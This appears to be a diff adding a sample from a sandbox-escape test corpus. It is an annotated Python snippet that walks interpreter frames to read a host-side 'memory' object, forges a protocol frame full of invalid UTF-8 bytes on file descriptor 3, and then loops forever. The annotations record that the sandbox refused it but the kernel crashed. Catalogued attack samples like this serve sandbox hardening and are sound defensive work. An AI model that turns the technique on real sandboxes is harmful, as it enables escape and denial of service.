@@ -1,0 +1,31 @@
+# origin: own
+# technique: bytes that are no UTF-8
+# goal: outside
+# outcome: refused:attribute-not-allowed | refused:import-not-allowed | refused:underscore-attribute
+# kernel: CRASHED
+import os
+import sys
+def frame(payload):
+    return len(payload).to_bytes(4, "big") + payload
+
+def answer(sequence, body):
+    return frame(sequence.to_bytes(8, "big") + body)
+
+def write(data):
+    while data:
+        data = data[os.write(3, data):]
+
+def find_journal():
+    back = sys._getframe()
+    while back is not None:
+        if "memory" in back.f_locals:
+            return back.f_locals["memory"]
+        back = back.f_back
+
+
+def on_execute_post_login(event, api):
+    memory = find_journal()
+    sequence = int.from_bytes(memory[:8], sys.byteorder)
+    write(answer(sequence, b"[\"" + b"\xff" * 1000 + b"\"]"))
+    while True:
+        pass
